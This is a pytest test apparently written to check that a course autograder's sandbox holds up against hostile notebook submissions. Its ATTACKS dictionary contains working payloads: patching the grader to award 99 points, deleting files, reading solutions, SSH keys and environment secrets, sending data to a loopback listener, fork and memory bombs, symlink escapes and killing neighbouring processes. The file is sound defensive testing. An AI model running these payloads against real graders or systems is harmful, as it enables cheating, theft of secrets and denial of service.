"""The grader against hostile submissions: one lab01 submission per kind of attack, graded in one batch.

Each attacker answers two exercises honestly (worth 6 of lab01's 13 points) and puts its attack in the
first exercise cell, so that the attack runs before any check. Every attacker sits between correct
submissions and the batch runs two at a time (``--jobs 2``), so each attack has a neighbour graded at
the same moment. For every case the test asserts that

- the attacker earns at most what its honest answers earn, exercise by exercise;
- the correct submissions graded beside it keep 13/13;
- nothing outside the sandbox changes: an instructor's folder, the other submissions, earlier
  results, a file in the course folder, and the grader's temporary folders; no process is left;
- the grader finishes and writes a row for everyone.

Runs only where the grader can make its sandbox (``bwrap``); CI installs it.
"""

from __future__ import annotations

import csv
import glob
import hashlib
import os
import secrets
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from dlcourse import grader, grading

ROOT = Path(__file__).resolve().parent.parent
pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(not grading.SOLUTIONS_DIR.is_dir(), reason="the student edition has no solutions/"),
              pytest.mark.skipif(not grader.sandbox_status()[0], reason="no sandbox: " + grader.sandbox_status()[1])]

HONEST = {"lab01.linear_loss_grad": 3, "lab01.gd_linear": 3, "lab01.sigmoid": 0, "lab01.logistic_loss_grad": 0,
          "lab01.train_logistic": 0}
MARK = f"{secrets.randbelow(10**6) + 10**6}.{secrets.randbelow(10**4):04d}"   # in the argv of processes the attacks start

ATTACKS = {
    # Every object of the grading code the submission's own process holds, through names no scanner lists.
    "patches_grading": """
import sys as _s
for _m in list(_s.modules.values()):
    if getattr(_m, "__name__", "").startswith("dlcourse"):
        for _n in ("check", "run_check", "hidden_test", "_explain", "get_spec", "load_checks", "_reporter"):
            if hasattr(_m, _n):
                setattr(_m, _n, lambda *a, **k: None)
_g = _s.modules["dlcourse.grading"]
for _spec in list(_g._REGISTRY.values()):
    object.__setattr__(_spec, "func", lambda **answers: None)
    object.__setattr__(_spec, "points", 99)
_srv = getattr(_s.modules.get("dlcourse.grader"), "_Server", None) or _s.modules["__main__"]._Server
_srv.call = lambda self, header, blobs: ({"ok": True, "value": {"$": "tuple", "v": [0.0, [0.0, 0.0, 0.0], 0.0]}}, [])
print("patched")
""",
    # Delete, rename, truncate, overwrite, link and chmod files outside its folder.
    "deletes_files": """
import os as _os, shutil as _sh
_done = []
for _t in TARGETS:
    for _name, _op in [("remove", lambda p: _os.remove(p)), ("rename", lambda p: _os.rename(p, p + ".gone")),
                       ("truncate", lambda p: _os.truncate(p, 0)), ("overwrite", lambda p: open(p, "w").write("x")),
                       ("link", lambda p: _os.link(p, "/sandbox/hard")), ("chmod", lambda p: _os.chmod(p, 0)),
                       ("rmtree", lambda p: _sh.rmtree(_os.path.dirname(p)))]:
        try:
            _op(_t)
            _done.append((_name, _t))
        except Exception:
            pass
print("operations that did something:", _done)
""",
    # Solutions, hidden tests, git objects, the grader's files, other submissions, the instructor's secret.
    "reads_secrets": """
import glob as _gl, os as _os
_found = []
_paths = [p for pattern in READ_PATTERNS for p in _gl.glob(pattern, recursive=True)]
for _p in _paths[:5000]:
    try:
        if _os.path.isfile(_p):
            _found.append((_p, open(_p, "rb").read(300)))
    except Exception:
        pass
_found += [("env", k) for k in _os.environ if "SECRET" in k or "KEY" in k]
print("found:", _found)
""",
    # A connection to a listener on this machine's loopback, standing in for the internet.
    "network": """
import socket as _so
_ok = []
for _family, _host in ((_so.AF_INET, "127.0.0.1"), (_so.AF_INET, "localhost")):
    try:
        _c = _so.create_connection((_host, PORT), timeout=2)
        _c.sendall(b"stolen")
        _ok.append(_host)
    except Exception as _e:
        print("no connection:", type(_e).__name__)
print("connected to:", _ok)
""",
    # Ignores SIGINT (and the alarm) and spins, with a child in a session of its own spinning too.
    "ignores_sigint_and_spins": """
import signal as _sig, subprocess as _sp, sys as _sy
_sp.Popen([_sy.executable, "-c", "import os, signal\\nsignal.signal(2, signal.SIG_IGN)\\nos.setsid()\\n"
           "x = 'MARK'\\nwhile True: pass"])
for _n in (_sig.SIGINT, _sig.SIGALRM, _sig.SIGTERM):
    _sig.signal(_n, _sig.SIG_IGN)
while True:
    pass
""",
    # As many processes, then as many threads, as it can start.
    "process_and_thread_bomb": """
import subprocess as _sp, threading as _th, time as _ti
_procs, _threads = [], []
try:
    while len(_procs) < 5000:
        _procs.append(_sp.Popen(["sleep", "MARK"]))
except OSError as _e:
    print("processes stopped at", len(_procs), type(_e).__name__)
for _p in _procs:
    _p.kill()
    _p.wait()
try:
    while len(_threads) < 5000:
        _t = _th.Thread(target=_ti.sleep, args=(600,), daemon=True)
        _t.start()
        _threads.append(_t)
except RuntimeError as _e:
    print("threads stopped at", len(_threads))
""",
    # All the memory it can get, at once and then gigabyte by gigabyte.
    "exhausts_memory": """
import numpy as _np
try:
    _x = bytearray(64 << 30)
except MemoryError:
    print("64 GB at once: MemoryError")
_blocks = []
try:
    while len(_blocks) < 64:
        _blocks.append(_np.ones(2**27))   # 1 GB, touched
except MemoryError:
    print("stopped at", len(_blocks), "GB")
del _blocks
""",
    # 200 MB of output, through Python and straight to the file descriptors.
    "huge_output": """
import os as _os, sys as _sy
for _ in range(200):
    print("x" * (1 << 20))
for _fd in (1, 2):
    try:
        _os.write(_fd, b"y" * (50 << 20))
    except OSError:
        pass
""",
    # Symbolic links from its folder to places outside, written through and left behind for the grader.
    "symlinks_out": """
import os as _os
for _i, _t in enumerate(TARGETS + ["/", "/proc/1/root", "/etc/passwd"]):
    try:
        _os.symlink(_t, f"/sandbox/link{_i}")
        open(f"/sandbox/link{_i}", "a").write("x")
    except Exception:
        pass
    try:
        _os.symlink(_os.path.dirname(_t), f"/sandbox/dir{_i}")
    except Exception:
        pass
print(sorted(_os.listdir("/sandbox")))
""",
    # The submission graded at the same moment: its processes, its folder, its time.
    "attacks_neighbour": """
import glob as _gl, os as _os, signal as _sig, threading as _th, time as _ti
_seen = []
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        _seen.append(open(f"/proc/{_pid}/cmdline", "rb").read()[:80])
        if int(_pid) != _os.getpid():
            _os.kill(int(_pid), _sig.SIGKILL)
    except Exception:
        pass
for _p in _gl.glob("/tmp/dlcourse-grade-*/**", recursive=True) + _gl.glob("/proc/*/root/tmp/*"):
    try:
        open(_p, "w").write("x")
    except Exception:
        pass
def _burn(until=_ti.time() + 5):
    while _ti.time() < until:
        pass
for _ in range(8):
    _th.Thread(target=_burn).start()
print("processes seen:", len(_seen))
""",
}


def _tree_state(paths: list[Path]) -> dict:
    """Every file and folder under ``paths``: content hash, mode, and link target."""
    state = {}
    for top in paths:
        for root, dirs, files in os.walk(top):
            for name in dirs + files:
                p = Path(root) / name
                st = p.lstat()
                digest = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() and not p.is_symlink() else ""
                state[str(p)] = (digest, st.st_mode, os.readlink(p) if p.is_symlink() else "")
        st = top.lstat()
        state[str(top)] = ("", st.st_mode, "")
    return state


def _processes_with(text: str) -> list[str]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if text in cmdline and str(os.getpid()) != pid:
            found.append(f"{pid}: {cmdline[:100]}")
    return found


@pytest.fixture
def listener():
    """A TCP listener on loopback that records every connection it gets."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.5)
    got, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                got.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join(5)
    server.close()


def test_hostile_submissions_earn_only_their_honest_points_and_change_nothing_outside(tmp_path, listener):
    port, connections = listener
    solution = nbformat.read(grading.find_solution("lab01"), as_version=4)
    lab = grading.student_version(solution)

    instructor = tmp_path / "instructor"            # an instructor's files beside the grading
    instructor.mkdir()
    secret = f"instructor-secret-{secrets.token_hex(8)}"
    (instructor / "notes.txt").write_text(secret)
    (instructor / "keys").mkdir()
    (instructor / "keys" / "id").write_text(secret)
    results = tmp_path / "results"                  # results of an earlier lab
    results.mkdir()
    (results / "lab00.csv").write_text("student,total\nsomeone,10\n")
    course_file = ROOT / "datasets" / f".redteam-{secrets.token_hex(4)}"   # inside a folder the sandbox sees
    course_file.write_text("course data")
    subs = tmp_path / "submissions"
    subs.mkdir()

    targets = [str(instructor / "notes.txt"), str(instructor / "keys" / "id"), str(results / "lab00.csv"),
               str(subs / "b01_correct.ipynb"), str(course_file), str(grading.find_solution("lab01")),
               str(ROOT / "dlcourse" / "checks" / "lab01.py")]
    patterns = [str(grading.SOLUTIONS_DIR / "**"), str(ROOT / ".git" / "**"), str(ROOT / "**" / "*.ipynb"),
                "/tmp/dlcourse-grade-*/**", str(subs / "**"), str(instructor / "**"), str(results / "**"),
                "/root/**/*history*", "/root/.ssh/**", "/home/**"]

    def cells(attack: str):
        nb = solution
        for exercise in ("lab01.sigmoid", "lab01.logistic_loss_grad", "lab01.train_logistic"):
            index = next(i for i, c in enumerate(solution.cells) if grading.cell_tag(c, "exercise") == exercise)
            nb = _with(nb, exercise, lab.cells[index].source)
        first = next(c.source for c in solution.cells if grading.cell_tag(c, "exercise") == "lab01.linear_loss_grad")
        code = (attack.replace("TARGETS", repr(targets)).replace("READ_PATTERNS", repr(patterns))
                .replace("PORT", str(port)).replace("MARK", MARK))
        return _with(nb, "lab01.linear_loss_grad", code + "\n\n" + first)

    names = []
    for number, (name, attack) in enumerate(ATTACKS.items()):
        names.append(f"a{number:02d}_{name}")
        nbformat.write(cells(attack), subs / f"{names[-1]}.ipynb")
        nbformat.write(solution, subs / f"b{number:02d}_correct.ipynb")   # graded beside it
    (subs / "c_symlinked.ipynb").symlink_to(instructor / "notes.txt")    # a "notebook" that points elsewhere

    watched = [instructor, results, subs]
    before = _tree_state(watched)
    course_before = course_file.read_bytes()
    temp_before = set(glob.glob("/tmp/dlcourse-grade-*"))

    out = tmp_path / "grades" / "lab01.csv"
    run = subprocess.run([sys.executable, "-m", "dlcourse", "grade", "lab01", str(subs), "--out", str(out),
                          "--jobs", "2", "--cell-timeout", "20", "--timeout", "150", "--memory", "3"],
                         capture_output=True, text=True, cwd=ROOT, timeout=1500)
    try:
        assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
        rows = {r["student"]: r for r in csv.DictReader(out.open())}
        feedback = {p.stem: p.read_text() for p in (out.parent / "lab01-feedback").iterdir()}
        assert sorted(rows) == sorted(names + [f"b{n:02d}_correct" for n in range(len(ATTACKS))] + ["c_symlinked"])

        for number, name in enumerate(names):
            row = rows[name]
            for exercise, honest in HONEST.items():
                assert int(row[exercise]) <= honest, f"{name} earned {row[exercise]} for {exercise} (honest: {honest})"
            correct = rows[f"b{number:02d}_correct"]
            assert correct["total"] == "13" and correct["errors"] == "", (name, correct, feedback[f"b{number:02d}_correct"])

        assert int(rows["a00_patches_grading"]["total"]) <= 6 and "patched" in feedback["a00_patches_grading"]
        bombs = feedback["a05_process_and_thread_bomb"]
        assert "processes stopped at" in bombs and "threads stopped at" in bombs, bombs[:1500]
        memory = feedback["a06_exhausts_memory"]
        assert "64 GB at once: MemoryError" in memory or "sandbox was stopped" in memory, memory[:1500]
        assert rows["c_symlinked"]["total"] == "0" and "symbolic link" in rows["c_symlinked"]["errors"]
        everything = "\n".join(feedback.values()) + out.read_text()
        assert secret not in everything, "the instructor's secret reached a feedback file"
        hidden = solution.cells[[grading.cell_tag(c, "check") for c in solution.cells].index("lab01.linear_loss_grad")]
        hidden_line = hidden.source.split(grading.HIDDEN_BEGIN)[1].splitlines()[3].strip()   # a line of a hidden test
        assert "BEGIN SOLUTION" not in everything and hidden_line not in everything
        assert "found: []" in feedback["a02_reads_secrets"], feedback["a02_reads_secrets"][:2000]
        assert "operations that did something: []" in feedback["a01_deletes_files"] or \
            "sandbox was stopped" in feedback["a01_deletes_files"], feedback["a01_deletes_files"][:2000]
        assert connections == [], f"a graded submission reached the loopback listener: {connections}"
        assert "connected to: []" in feedback["a03_network"]
        assert "sandbox was stopped" in rows["a04_ignores_sigint_and_spins"]["errors"]
        assert len(feedback["a07_huge_output"]) < 100_000
        assert int(rows["a07_huge_output"]["total"]) == 6      # output is cut; the honest answers still count

        assert _tree_state(watched) == before, "a file outside the sandboxes changed"
        assert course_file.read_bytes() == course_before
        assert set(glob.glob("/tmp/dlcourse-grade-*")) == temp_before, "the grader left its temporary folder"
        assert _processes_with(MARK) == [], "a graded submission left processes behind"
    finally:
        course_file.unlink(missing_ok=True)


def _with(nb, exercise: str, source: str):
    nb = nbformat.from_dict(nbformat.from_dict(dict(nb)))
    nb = nbformat.reads(nbformat.writes(nb), as_version=4)
    for cell in nb.cells:
        if grading.cell_tag(cell, "exercise") == exercise:
            cell.source = source
    return nb
